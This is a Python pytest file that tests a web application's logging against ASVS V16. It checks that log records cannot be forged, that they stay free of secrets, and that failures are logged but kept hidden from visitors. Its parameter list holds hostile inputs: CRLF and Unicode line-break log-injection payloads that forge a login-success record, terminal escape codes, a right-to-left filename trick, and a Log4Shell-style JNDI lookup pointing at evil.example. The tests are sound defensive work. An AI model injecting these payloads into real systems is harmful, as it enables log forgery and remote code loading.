"""V16, logging and errors: every line is one record of JSON that nobody forged, and no record holds a secret."""

import json
import re
from datetime import datetime, timedelta
from urllib.parse import quote

import pytest

from tests.attacks.site import COOKIE
from tests.attacks.target import PASSWORDS
from tests.attacks.wire import request

FORGED = '{"at":"2030-01-01T00:00:00Z","level":"warning","logger":"fastness.security","event":"authn_login_success"}'
HOSTILE = [
    pytest.param("\r\n" + FORGED, id="a-line-of-its-own"),
    pytest.param("\n" + FORGED + "\n", id="line-feeds"),
    pytest.param('","event":"authn_login_success","a":"', id="json"),
    pytest.param("\x1b[2J\x1b[31mred", id="terminal"),
    pytest.param("\u2028" + FORGED, id="line-separator"),
    pytest.param("\u202efdp.exe", id="turned-round"),
    pytest.param("\x85" + FORGED, id="next-line"),
    pytest.param("%(secret)s %s {} ${jndi:ldap://evil.example/a}", id="format"),
    pytest.param("\x00", id="nul"),
    pytest.param("a" * 5000, id="long"),
]


def lines_as_written(site, start):
    with site.log.open("rb") as file:
        file.seek(start)
        return file.read().splitlines()


@pytest.mark.parametrize("text", HOSTILE)
async def test_v16_4_1_nobody_writes_a_line_of_his_own(any_site, text):
    start = any_site.log_size()
    async with any_site.browser() as browser:
        await browser.open("/account/sign-in")
        await browser.submit("/account/sign-in", username=text, password=text)
        await browser.open(f"/account/sign-in?next={quote(text)}")
        await browser.fetch(f"/go?to=/{quote(text)}")
        await browser.fetch(f"/paths/{quote(text)}")
        await browser.fetch(f"/named-file?name={quote(text)}")
        await browser.fetch("/json", "POST", content=text.encode(), headers={"content-type": "application/json"})
        report = {"csp-report": {"effective-directive": text, "blocked-uri": text, "document-uri": text}}
        await browser.fetch("/-/csp-report", "POST", json=report)
    latin = text.encode("utf-8").replace(b"\r", b"").replace(b"\n", b"").replace(b"\0", b"")
    any_site.send(request("GET /who", b"User-Agent: " + latin, b"Origin: " + latin, host="evil.example"))
    written = lines_as_written(any_site, start)
    assert written
    for line in written:
        assert re.fullmatch(rb"[ -~]+", line), line
        record = json.loads(line)
        assert record["at"] != "2030-01-01T00:00:00Z"
        assert record.get("event") != "authn_login_success"
        assert len(line) < 20_000


def test_v16_2_1_v16_2_2_an_event_says_when_where_who_and_what(any_site):
    with any_site.records("malicious_cors") as events:
        answer = any_site.send(request("POST /notes", "Origin: https://evil.example", "Content-Length: 0"))
    (event,) = events
    moment = datetime.fromisoformat(event["at"])
    assert moment.utcoffset() == timedelta(0)
    assert (event["method"], event["route"], event["client_ip"]) == ("POST", "add_note", "127.0.0.1")
    assert (event["reason"], event["level"]) == ("origin_mismatch", "warning")
    # What the visitor sees leads whoever reads the log to the record.
    assert json.loads(answer.body)["request_id"] == event["request_id"]


def test_v16_3_4_v16_5_4_a_failure_is_in_the_log_and_not_in_the_answer(any_site):
    start = any_site.log_size()
    with any_site.records("sys_crash", "unexpected") as events:
        answer = any_site.send(request("POST /write-then-fail", "Content-Length: 0"))
    assert b"secret detail" not in answer.body
    (line,) = [line for line in any_site.lines(start) if "exception" in line]
    assert "secret detail of the failure" in line["exception"]["traceback"]
    assert line["request_id"] == events[0]["request_id"] == json.loads(answer.body)["request_id"]


async def test_v16_2_5_no_secret_is_in_the_log(any_site):
    start = any_site.log_size()
    async with any_site.signed_in() as browser:
        cookie = browser.cookies[COOKIE].value
        page = await browser.open("/")
        token = dict(page.form("/notes").fields)["csrf_token"]
        await browser.fetch("/write-then-fail", "POST", json={"password": "hunter2"}, headers={"x-csrf-token": token})
        await browser.fetch("/notes", "POST", content=b"csrf_token=" + token[:-2].encode())
        await browser.open(f"/private?key={token}")
    nobody = {"cookie": f"{COOKIE}={'B' * 43}", "authorization": "Bearer top-secret-bearer"}
    async with any_site.browser() as browser:
        await browser.fetch("/private", headers=nobody)
        await browser.sign_in("ada", "wrong but still a secret")
    written = b"\n".join(lines_as_written(any_site, start)).decode()
    secrets = [cookie, token, PASSWORDS["ada"], "wrong but still", "B" * 43, "top-secret-bearer", "hunter2"]
    secrets.append("attacks-only-qT7xWv2nLk9RzB4mYc8sHd3fJg6pAe")
    assert not [secret for secret in secrets if secret in written]


def test_v16_5_3_v16_5_4_after_any_number_of_failures_it_still_serves(any_site):
    for _ in range(50):
        assert any_site.send(request("POST /write-then-fail", "Content-Length: 0")).status == 500
    assert any_site.send(request("GET /who")).status == 200


async def test_v16_2_4_serve_writes_nothing_but_json(deployed):
    for path in ("/who", "/private", "//a", "/write"):
        deployed.send(request(f"GET {path}", host="target.example"))
    deployed.send(request("GET /who", host="evil.example"))
    assert {"host_fail", "authz_fail", "read_only_fail"} <= {event["event"] for event in deployed.events()}
